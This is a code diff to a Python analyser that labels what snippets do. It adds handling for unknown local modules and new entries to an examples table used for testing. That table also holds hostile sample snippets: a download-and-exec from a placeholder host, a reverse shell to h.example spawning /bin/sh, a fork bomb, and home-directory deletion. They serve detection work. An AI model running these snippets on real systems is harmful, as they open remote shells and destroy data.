@@ -67,6 +67,8 @@ class Atom(NamedTuple):
 Value = tuple[Atom, ...]
 DATA: Value = (Atom("data", ""),)
 NETWORK: Value = (Atom("data", "network"),)
+OWN: Value = (Atom("data", "own"),)
+"""Of a module that is not known, which ``_importable`` has told of: what it does, running that module covers."""
 TEXT: Value = (Atom("text", UNKNOWN),)
 NONE: Value = (Atom("const", None),)
 
@@ -557,14 +559,14 @@ class _Reader(Reader):
                     self.bind(name, (Atom("ref", module if alias.asname else module.partition(".")[0]),))
                     self.imported[module] = None
                 else:
-                    self.bind(alias.asname or module.partition(".")[0], DATA)
+                    self.bind(alias.asname or module.partition(".")[0], OWN)
             return
         module = node.module or ""
         if node.level or not self._importable(module):
             if node.level:
                 self.doubt("a relative import")
             for alias in node.names:
-                self.bind(alias.asname or alias.name, DATA)
+                self.bind(alias.asname or alias.name, DATA if node.level else OWN)
             return
         self.imported[module] = None
         for alias in node.names:
@@ -592,7 +594,7 @@ class _Reader(Reader):
             or top in ("urllib2", "commands", "StringIO", "joblib", "dill")
         ):
             return True
-        self.doubt(f"import {module}")
+        self.out.append(RunFile(module, "python-module"))
         return False
 
     # expressions
@@ -1054,6 +1056,8 @@ class _Reader(Reader):
             or name in ("parent", "parents", "relative_to", "joinpath", "with_suffix", "with_name")
         ):
             return result
+        if atom in OWN and not name.startswith("__") and name not in PATH_METHODS:
+            return OWN
         self.doubt(f"the attribute {name}")
         return result
 
@@ -1160,7 +1164,8 @@ class _Reader(Reader):
             else:
                 for value in arguments.all():
                     self.escape(value)
-                out.append(NETWORK if atom == Atom("data", "network") or arguments.has_network() else DATA)
+                network = atom == Atom("data", "network") or arguments.has_network()
+                out.append(NETWORK if network else OWN if atom in OWN else DATA)
         return self.join(*out)
 
     def _call_function(self, atom: Atom, arguments: _Arguments) -> Value:
@@ -2542,7 +2547,8 @@ EXAMPLES: tuple[tuple[str, str], ...] = (
     ("import urllib.request as r; exec(r.urlopen('https://x.example').read())", "network download https://x.example; execute exec code that comes over the network !critical"),
     ("import socket,os,pty\ns=socket.socket()\ns.connect(('h.example',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')", "network connect h.example; run /bin/sh; network shell h.example"),
     ("import os\nwhile True: os.fork()", "system fork bomb the process table !critical"),
-    ("import shop", "execute import shop inline python code !uncertain"),
+    ("import shop", "file python-module shop"),
+    ("from shop.cart import total; print(total(3))", "file python-module shop.cart"),
     ("().__class__.__mro__", "execute the attribute __class__ inline python code !uncertain; execute the attribute __mro__ inline python code !uncertain"),
     ("import shutil, os; shutil.rmtree(os.path.expanduser('~'))", "shell 'rm -r -- ~'"),
     ("import sqlite3; sqlite3.connect('a.db').execute('DROP TABLE t')", "read a.db; code sql 'DROP TABLE t'"),
